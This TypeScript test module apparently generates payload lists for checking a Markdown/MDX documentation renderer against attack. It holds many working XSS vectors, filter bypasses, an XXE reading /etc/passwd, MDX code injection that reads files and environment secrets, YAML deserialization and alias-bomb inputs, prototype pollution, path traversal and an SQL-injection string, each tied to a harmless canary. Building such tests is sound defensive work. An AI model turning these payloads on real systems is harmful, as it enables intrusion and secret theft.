/** Where a payload would leave its trace. */
export interface Canary {
  /** An address that must never be asked for. */
  url: string;
  /** A file that must never be read (it holds `secret`), and beside it one that must never be written. */
  file: string;
  secret: string;
}

/** Set in whatever global scope a payload runs in, page or server. */
export const canaryName = 'pilothouseCanary';

/** Ways to run code in a page: elements and attributes by which browsers start scripts, and how filters were passed by. */
export function htmlPayloads({ url }: Canary): string[] {
  const js = `globalThis.${canaryName}=1`;
  const coded = [...js].map((sign) => `&#${sign.charCodeAt(0)};`).join('');
  const base64 = btoa(`<script>parent.${canaryName}=1</script>`);
  const events = [
    'onerror',
    'onload',
    'ontoggle',
    'onfocus',
    'onmouseover',
    'onclick',
    'onanimationstart',
    'onbegin',
  ];
  const elements = [
    'img src=x',
    'svg',
    'details open',
    'input autofocus',
    'body',
    'video src=x',
    'a',
    'br',
    'table',
    'b',
  ];
  return [
    ...elements.flatMap((element) => events.map((event) => `<${element} ${event}=${js}>`)),
    ...elements.map((element) => `<${element}/onerror="${js}"/onload='${js}'>x`),
    ...elements.map((element) => `<${element} style="background:url(${url}/style)" id=x class=x>x`),
    ...['iframe', 'embed', 'frame', 'object', 'portal', 'fencedframe'].flatMap((element) => [
      `<${element} src="javascript:${js}">`,
      `<${element} src="${url}/${element}"></${element}>`,
      `<${element} srcdoc="<script>parent.${canaryName}=1</script>" data="data:text/html;base64,${base64}">`,
    ]),
    ...['script', 'SCRIPT', 'scr\u0000ipt', 'script ', 'script/x', 'ſcript'].map(
      (name) => `<${name}>${js}</${name.trim()}>`,
    ),
    `<script src="${url}/script.js"></script>`,
    `<script type=module>import "${url}/module.js"</script>`,
    `<link rel=stylesheet href="${url}/sheet.css"><link rel=prefetch href="${url}/prefetch">`,
    `<meta http-equiv=refresh content="0;url=javascript:${js}"><base href="${url}/">`,
    `<img src="${url}/image.png" srcset="${url}/set.png 2x"><picture><source srcset="${url}/source.png"></picture>`,
    `<style>@import "${url}/import.css";*{background:url(${url}/star)}</style>`,
    `<svg><script>${js}</script></svg><svg><animate onbegin="${js}" attributeName=x></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload=${js}>#x"></use><image href="${url}/svg.png"/></svg>`,
    `<svg><a xlink:href="javascript:${js}"><text>x</text></a><foreignObject><iframe onload=${js}></foreignObject></svg>`,
    `<math href="javascript:${js}">x<mtext><table><mglyph><style><img src=x onerror=${js}>`,
    `<math><mi//xlink:href="data:x,<script>${js}</script>"><annotation-xml encoding="text/html"><img src=x onerror=${js}>`,
    `<noscript><p title="</noscript><img src=x onerror=${js}>">`,
    `<template><img src=x onerror=${js}></template><xmp><img src=x onerror=${js}></xmp>`,
    `<textarea><img src="</textarea><img src=x onerror=${js}>"></textarea><title><img src="</title><img src=x onerror=${js}>">`,
    `<select><option><style></option></select><img src=x onerror=${js}></style>`,
    `<form action="javascript:${js}"><button formaction="javascript:${js}">x</button><input type=image src="${url}/input">`,
    `<a href="javascript:${js}">x</a><a href="&#106;avascript:${coded}">x</a><a href=" \u0001javascript:${js}">x</a>`,
    `<a href="java&Tab;script&colon;${js}">x</a><a href="data:text/html;base64,${base64}">x</a><a href="vbscript:x">x</a>`,
    `<img src="x\`onerror=${js}\`"><img """><script>${js}</script>"><img src=x:x onerror\u000b=${js}>`,
    `<<script>${js}//<</script><scr<script>ipt>${js}</scr</script>ipt><</p><script>${js}</script>`,
    `<!--><img src=x onerror=${js}>--><!--[if gte IE 4]><script>${js}</script><![endif]--><![CDATA[<img src=x onerror=${js}>]]>`,
    `<?xml-stylesheet href="${url}/pi.css"?><!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`,
    `</p></div></main></body><script>${js}</script>`,
    `"><img src=x onerror=${js}>`,
    `'-${js}-'`,
    `\`;${js}//`,
    `</script><script>${js}</script>`,
    `<div id="getElementById"></div><a id=${canaryName} name=${canaryName}>clobber</a><form name=body><input name=attributes>`,
    `<video poster="${url}/poster"><track src="${url}/track"></video><audio src="${url}/audio" autoplay>`,
    `<table background="${url}/table"><td background="${url}/cell">x</table><body background="${url}/body">`,
    `<marquee onstart=${js}>x</marquee><isindex action="javascript:${js}" type=image><keygen autofocus onfocus=${js}>`,
    `<p is="x-y" slot=z popover onbeforetoggle=${js} popovertarget=q>x</p><button commandfor=a command=show-modal>x</button>`,
  ];
}

/** Ways to run or read something on the server: what MDX, templates, front matter and YAML turn into code. */
export function codePayloads({ url, file, secret: _ }: Canary): string[] {
  const js = `globalThis.${canaryName}=1`;
  const write = `process.getBuiltinModule("fs").writeFileSync(${JSON.stringify(`${file}.written`)},"x")`;
  const read = `process.getBuiltinModule("fs").readFileSync(${JSON.stringify(file)},"utf8")`;
  const ask = `fetch("${url}/server")`;
  const codes = [js, write, read, ask, 'process.env.PILOTHOUSE_CANARY_SECRET', 'process.exit(1)'];
  const front = ['js', 'javascript', ' js', 'coffee', 'json', 'toml', 'cson', '\tjs'];
  return [
    ...codes.flatMap((code) => [
      `{${code}}`,
      `a {(() => ${code})()} b`,
      `{"".constructor.constructor(${JSON.stringify(`return ${code}`)})()}`,
      `{[].filter.constructor(\`${code}\`)()}`,
      `<Callout title={${code}}>x</Callout>`,
      `<Callout title="x" {...{children: ${code}}}>x</Callout>`,
      `<Callout title="x" dangerouslySetInnerHTML={{__html: ${code}}} />`,
      `export const x = ${code}\n\n{x}`,
      `export default () => ${code}`,
      `export function getStaticProps() { ${code} }`,
      `import x from "data:text/javascript,${encodeURIComponent(code)}"\n\n{x}`,
      `<script>{${code}}</script>`,
      `{/* x */ ${code}}`,
      `<>{${code}}</>`,
      `<Callout title="{${code}}">{${code}}</Callout>`,
      `\${${code}} <%= ${code} %> {{${code}}} #{${code}} *{${code}}`,
    ]),
    ...front.map((language) => `---${language}\nmodule.exports = ${js}; ${write}\n---\n\ntext`),
    `---\nx: !!js/function "function(){${js}}"\ny: !!js/undefined\nz: !<tag:yaml.org,2002:js/regexp> /x/\n---\n\ntext`,
    `---\n__proto__: {polluted: yes}\nconstructor: {prototype: {polluted: yes}}\n---\n\ntext`,
    `---\na: &a [x,x]\nb: &b [*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b]\nd: [*c,*c,*c,*c,*c,*c]\n---\n\ntext`,
    `import fs from "node:fs"\n\n{fs.readFileSync("${file}", "utf8")}`,
    `import x from "${file}"\nimport y from "/etc/passwd"\nexport * from "../../package.json"\n\ntext`,
    `import("${url}/import.js")`,
    ...[
      '__proto__',
      'constructor',
      'prototype',
      'toString',
      'hasOwnProperty',
      '__defineGetter__',
      'valueOf',
    ].flatMap((name) => [
      `<${name} />`,
      `<Callout.${name} />`,
      `<Callout ${name}="x" title="y" />`,
      `<MetricChart project="${name}" metric="${name}" />`,
      `[${name}]\n\n[${name}]: javascript:${js}`,
      `<${name}:x>y</${name}:x>`,
      `\`\`\`${name}\nx\n\`\`\``,
      `## ${name}\n\n[x](#${name})\n\n[^${name}]\n\n[^${name}]: x`,
    ]),
    `<Callout title="&lt;script&gt;${js}&lt;/script&gt;&quot; onclick=&quot;${js}">x</Callout>`,
    `<MetricChart project="../../../etc/passwd" metric="${url}/metric" />`,
    `<AdrCard project="x' OR 1=1 --" adr="\${process.env.PATH}" />`,
    '<EstimateTable project="p" ref="x" key="y" dangerouslySetInnerHTML="z" />',
  ];
}

/** Links and images, in every way Markdown writes them. */
export function linkPayloads({ url, file }: Canary): string[] {
  const js = `globalThis.${canaryName}=1`;
  const addresses = [
    `javascript:${js}`,
    `JaVaScRiPt:${js}`,
    `java\tscript:${js}`,
    `&#106;avascript:${js}`,
    `&#x6A;avascript&colon;${js}`,
    `\u0001javascript:${js}`,
    `javascript&#x3A;${js}`,
    `data:text/html,<script>${js}</script>`,
    `data:image/svg+xml,<svg onload=${js}>`,
    'vbscript:msgbox(1)',
    `file://${file}`,
    `${url}/link`,
    `//${url.replace(/^https?:\/\//, '')}/relative`,
    `\\\\${url.replace(/^https?:\/\//, '')}`,
    'blob:https://a.example/1',
    'view-source:https://a.example',
    'https://good.example@evil.example',
    `https://a.example/"onmouseover="${js}`,
    `x" onerror="${js}`,
    `#" onclick="${js}`,
    '?a=<script>',
    '%6Aavascript:x',
    'feed:javascript:x',
    'jar:https://a.example!/x',
  ];
  return addresses.flatMap((address) => [
    `[x](${address})`,
    `[x](<${address}>)`,
    `![x](${address})`,
    `![x](<${address}> "t\\" onerror=${js}")`,
    `[![x](${address})](${address})`,
    `<${address}>`,
    `[x]: ${address}\n\n[x] ![x] [y][x]`,
    `<a href="${address}" target=_blank ping="${url}/ping">x</a>`,
    `<img src="${address}" lowsrc="${address}" alt='"><b onclick=${js}>'>`,
    address,
  ]);
}
